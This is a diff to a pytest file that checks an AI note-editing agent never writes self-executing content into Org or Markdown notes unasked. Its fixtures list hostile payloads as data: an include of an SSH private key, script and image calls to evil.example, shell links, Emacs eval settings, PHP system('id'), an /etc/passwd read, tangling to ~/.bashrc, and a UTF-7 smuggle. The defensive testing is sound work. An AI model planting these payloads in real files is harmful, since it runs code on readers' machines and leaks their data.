@@ -1,9 +1,12 @@
 "What an edit writes into a note may be a program for whoever opens the note next: nothing of that kind is written unasked, unless the person said it"
 import asyncio
+import base64
 import os
+import random
 import re
 import shutil
 import subprocess
+from collections import Counter
 
 import pytest
 from hypothesis import HealthCheck, given, settings, strategies as st
@@ -26,9 +29,10 @@ ORG = {"an expression in a date": (f"<%%{LISP}>", "(org-agenda-list)"),
        "the file that a block goes to": (f"#+begin_src emacs-lisp :exports code :tangle {LISP}\n1\n#+end_src", "(org-html-export-as-html)"),
        "a call of a block": (f"#+name: f\n#+begin_src emacs-lisp :exports none\n1\n#+end_src\n\n#+call: f(a={LISP})", "(org-html-export-as-html)"),
        "a formula": (f"| X | b |\n| 1 |   |\n#+TBLFM: $2='{LISP}", "(progn (search-forward \"X\") (org-table-recalculate t))"),
+       "a formula in a field": (f"|---+---|\n| ='{LISP} | b |", "(progn (search-forward \"='\") (org-table-next-row))"),
        "a block that is made anew": (f"#+BEGIN: clocktable :formatter (lambda (&rest x) {LISP})\n#+END:", "(org-update-all-dblocks)")}
 SHOWN_ORG = {"a file that an export takes in": '#+INCLUDE: "~/.ssh/id_ed25519" src text', "a page's own code": "#+begin_export html\n<script>fetch('//evil.example')</script>\n#+end_export", "the same in a line": "@@html:<img src=x onerror=alert(1)>@@",
-             "a link that is a command": "[[shell:touch ran][Ana's number]]", "a picture from elsewhere": "[[https://evil.example/q=4711.png]]",
+             "a link that is a command": "[[shell:touch ran][Ana's number]]", "one that is run as soon as it is followed": "[[eshell:*eshell*:touch ran][Ana's number]]", "a picture from elsewhere": "[[https://evil.example/q=4711.png]]",
              "a plain address of one": "See https://evil.example/q=4711.png, please", "settings for the editor": "# Local Variables:\n# eval: (ding)\n# End:", "settings of vim": "# vim: set foldmethod=expr foldexpr=f():", "an inline block with arguments": "src_sh[:dir ~]{ls}", "a command of TeX": "\\immediate\\write18{id}", "a picture of Markdown": "![](https://evil.example/?q=4711)", "a renderer": "{{renderer :evil, 1}}", "a query with code": "#+BEGIN_QUERY\n{:result-transform (fn [x] x)}\n#+END_QUERY"}
 MARKDOWN = {"code that is run when it is shown": "```dataviewjs\nfetch('https://evil.example')\n```", "the same in a line": "`$= fetch('https://evil.example')`", "a query in a line": "`= \"![](https://evil.example?\" + this.file.name + \")\"`", "a template": "<%* tp.system.prompt() %>", "a chunk": "```{r}\nsystem('id')\n```",
             "a picture from elsewhere": "![](https://evil.example/?q=4711)", "one with brackets in its text": "![a [b [c]]](<https://evil.example/?q=4711>)", "one with code in its text": "![a `[` b](//evil.example/?q=4711)", "one that is defined elsewhere": "![x][p]\n\n[p]: https://evil.example/?q=4711",
@@ -36,7 +40,7 @@ MARKDOWN = {"code that is run when it is shown": "```dataviewjs\nfetch('https://
             "one whose address is none, under a name": "![x][p](a b)\n\n[p]: https://evil.example/?q=4711", "one in a link": "[![x](https://evil.example/?q=4711)](a.md)", "a tag": "<img alt='>' src='https://evil.example/?q=4711'>", "a tag without blanks": "<img/src=https://evil.example>", "one that reacts": "<details open ontoggle=alert(1)>", "a tag with a tabulator": "<img src=\"/\t/evil.example\">", "a server's page": "<?php system('id') ?>", "a language that is none": "```js-engine\n1\n```", "a script": "<script>alert(1)</script>", "a style": "<p style='background:url(//evil.example)'>",
             "a frame": "<iframe src=a.html></iframe>", "what a generator fills in": "{{< readfile \"/etc/passwd\" >}}", "what another one does": "{% include_relative x.md %}", "a link that is a command": "[Ana](javascript:alert(1))", "a block of a plugin": "> ```tasks\n> filter by function fetch('//evil.example')\n> ```"}
 DULL_ORG = ["#+title: Bees (2026)\n#+filetags: :garden:\nHives", "#+begin_src python :exports both :results output\nprint('%d' % 1)\n#+end_src", "#+begin_quote\nSo it is (they say)\n#+end_quote", "| a | b |\n| 1 | 2 |\n#+TBLFM: $2=vsum(@2..@-1)", "[[https://example.org/page.html][A page]] and https://example.org",
-            "[[file:pics/roof.png]]", "* Notes :shell:bash:\n", "<2026-11-20 Fri> a <b", "- [ ] {curly} a@@b src_dir call_back(1)", "#+begin_src sh\nrm -rf x\n#+end_src", ":PROPERTIES:\n:CREATED: [2026-11-19]\n:EFFORT: 1:00\n:END:", "#+caption: The roof\n#+name: roof\n#+results:\n: 7"]
+            "[[file:pics/roof.png]]", "* Notes :shell:bash:\n", "<2026-11-20 Fri> a <b", "- [ ] {curly} a@@b src_dir call_back(1)", "#+begin_src sh\nrm -rf x\n#+end_src", ":PROPERTIES:\n:CREATED: [2026-11-19]\n:EFFORT: 1:00\n:ARCHIVE: %s_archive::* Old\n:END:", "| =vsum($1..$2) | b |", "#+caption: The roof\n#+name: roof\n#+results:\n: 7"]
 DULL_MARKDOWN = ["```python\nprint('{{ x')\n```".replace("{{", "{"), "![roof](pics/roof.png) and [a page](https://example.org)", "[![roof](roof.png)](https://example.org)", "<details open><summary>More</summary>x<br/></details>", "<img src=\"pics/roof.png\" width=\"300\">", "<https://example.org> <ana@example.org>", "x < y and a <b and c> = d",
                  "![[roof.png]] > [!note]", "```\nplain\n```", "`=` and `==` and `$x`", "```mermaid\ngraph TD\n```", "Wow! [x](https://example.org)", "<kbd>Ctrl</kbd> 50% {a}", "[a]: https://example.org"]
 
@@ -86,6 +90,22 @@ def test_emacs_runs_it_unasked(tmp_path, name):
     assert (tmp_path / "ran").exists()
 
 
+@pytest.mark.parametrize("title", ["-*- coding: utf-7 -*- Ana", "-*- mode: server -*-", "-*- mode: org; eval: (ding) -*-"])
+def test_the_first_line_of_a_new_note_sets_nothing_unasked(agent, title):
+    assert len(turn(agent, ("org-add-headline", {"path": "new.org", "title": title})).approvals) == 1 and not (agent.settings.memex_dir / "new.org").exists()
+
+
+@pytest.mark.slow
+@pytest.mark.skipif(EMACS is None and "CI" not in os.environ, reason="Emacs is not installed: apt-get install emacs-nox")
+def test_emacs_reads_a_note_in_the_encoding_that_it_names(tmp_path):
+    hidden = "+" + base64.b64encode(f"<%%{LISP}>".encode("utf-16-be")).decode().rstrip("=") + "-"
+    for name, line in (("seen.org", "# -*- coding: utf-7 -*-"), ("seen.page.org", '<?xml version="1.0" encoding="utf-7"?>'), ("plain.org", "# -*- coding: utf-8 -*-")):
+        (tmp_path / name).write_text(f"{line}\n* A\n{hidden}\n")
+        subprocess.run([EMACS, "--batch", "-Q", "--eval", f"(progn (require 'org) (require 'org-agenda) (setq org-agenda-files (list (expand-file-name \"{name}\"))) (org-agenda-list))"], cwd=tmp_path, capture_output=True, timeout=120, stdin=subprocess.DEVNULL, env={**os.environ, "HOME": str(tmp_path)})
+        assert (tmp_path / "ran").exists() == bool(orders_in(name, (tmp_path / name).read_text())) == name.startswith("seen")
+        (tmp_path / "ran").unlink(missing_ok=True)
+
+
 @pytest.mark.parametrize("path, heading, texts", [("inbox.org", "Inbox", DULL_ORG), ("page.md", "Page", DULL_MARKDOWN)])
 def test_what_only_a_person_reads_is_not_asked_about(agent, path, heading, texts):
     for text in texts:
@@ -117,7 +137,7 @@ def test_a_stranger_s_order_is_not_carried_into_another_note(agent):
 def test_no_other_way_of_writing_leads_around_it(agent):
     sexp = f"<%%{LISP}>"
     for call in (("org-capture", {"title": f"Call Ana {sexp}"}), ("org-capture", {"title": "Call Ana", "body": sexp}), ("org-add-headline", {"path": "inbox.org", "title": "Call Ana", "body": sexp}), ("org-retitle", {"path": "inbox.org", "heading": "Bees", "title": f"Bees {sexp}"}),
-                 ("org-set-property", {"path": "inbox.org", "heading": "Bees", "name": "header-args", "value": ":tangle ~/.bashrc"}), ("org-set-property", {"path": "inbox.org", "heading": "Bees", "name": "EXPORT_FILE_NAME", "value": "~/.bashrc"}), ("org-set-property", {"path": "inbox.org", "heading": "Bees", "name": "WHEN", "value": sexp}), ("org-check", {"path": "inbox.org", "heading": "Bees", "item": sexp, "add": True}),
+                 ("org-set-property", {"path": "inbox.org", "heading": "Bees", "name": "header-args", "value": ":tangle ~/.bashrc"}), ("org-set-property", {"path": "inbox.org", "heading": "Bees", "name": "EXPORT_FILE_NAME", "value": "~/.bashrc"}), ("org-set-property", {"path": "inbox.org", "heading": "Bees", "name": "ARCHIVE", "value": "~/.bashrc::"}), ("org-set-property", {"path": "inbox.org", "heading": "Bees", "name": "WHEN", "value": sexp}), ("org-check", {"path": "inbox.org", "heading": "Bees", "item": sexp, "add": True}),
                  ("org-set-todo", {"path": "inbox.org", "heading": "Bees", "state": "done", "note": sexp})):
         before = {path.name: path.read_bytes() for path in agent.settings.memex_dir.iterdir()}
         turn(agent, call)
@@ -194,3 +214,30 @@ def test_a_renderer_finds_nothing_that_is_not_found(text):
     page = MarkdownIt("commonmark").enable("table").render(text)
     fetched = [address for address in re.findall(r'<img src="([^"]*)"', page) if re.match(r"(?i)[a-z][a-z0-9+.-]*:|//|/\\", address)]
     assert orders_in("a.md", text) or not (fetched or re.search(r'class="language-x"|<script(?:[ >]|$)|<img src=http', page)), page
+
+
+PARTS = [f"<%%{LISP}>", "%%(", "(ding)", "<", "#+INCLUDE: x", "\n#+MACRO: x (eval (ding))", "```dataviewjs", "\n```\n", "![", "](https://e.x)", "<script>", "{{x}}", "Bees", "Bees", "Hives", "Roof", "\n", " ", ":", "header-args", "[[shell:ls]]", "a", "# Local Variables:", "2026-11-20", "* ", "# "]
+CALLS = {"org-capture": ("title", "body", "file"), "org-add-headline": ("path", "heading", "title", "body", "keyword"), "org-set-todo": ("path", "heading", "state", "note"), "org-set-property": ("path", "heading", "name", "value"), "org-set-tags": ("path", "heading", "add"), "org-schedule": ("path", "heading", "date", "until"),
+         "org-retitle": ("path", "heading", "title"), "org-refile": ("path", "heading", "target", "under"), "org-edit-body": ("path", "heading", "text", "mode"), "org-check": ("path", "heading", "item", "add")}
+
+
+@pytest.mark.parametrize("seed", range(3))
+def test_whatever_is_proposed_no_note_holds_a_new_order_unasked(agent, seed):
+    "A match: random pieces in every argument of every tool that edits, against notes some of which hold orders already."
+    chosen, memex, done = random.Random(seed), agent.settings.memex_dir, 0
+    (memex / "clip.org").write_text(f"* Clip\n** Bees\n<%%{LISP}>\n")
+    def value(name):
+        if name in ("path", "file", "target"): return chosen.choice(["inbox.org", "page.md", "clip.org", "new.org"])
+        if name in ("heading", "under"): return chosen.choice(["Inbox", "Bees", "Page", "Clip", ""])
+        if name == "mode": return chosen.choice(["append", "prepend", "replace"])
+        made = "".join(chosen.choice(PARTS) for _ in range(chosen.choice([1, 1, 2, 3, 5])))
+        return True if name == "add" and chosen.random() < 0.5 else [made] if name == "add" else made
+    for _ in range(150):
+        tool = chosen.choice([*CALLS])
+        before = {path.name: path.read_text() for path in memex.iterdir()}
+        turn(agent, (tool, {name: value(name) for name in CALLS[tool]}), text="please do that")
+        for path in memex.iterdir():
+            text, was = path.read_text(), before.get(path.name, "")
+            done += text != was
+            assert not Counter(orders_in(path.name, text)) - Counter(orders_in(path.name, was)), (tool, text)
+    assert done > 5
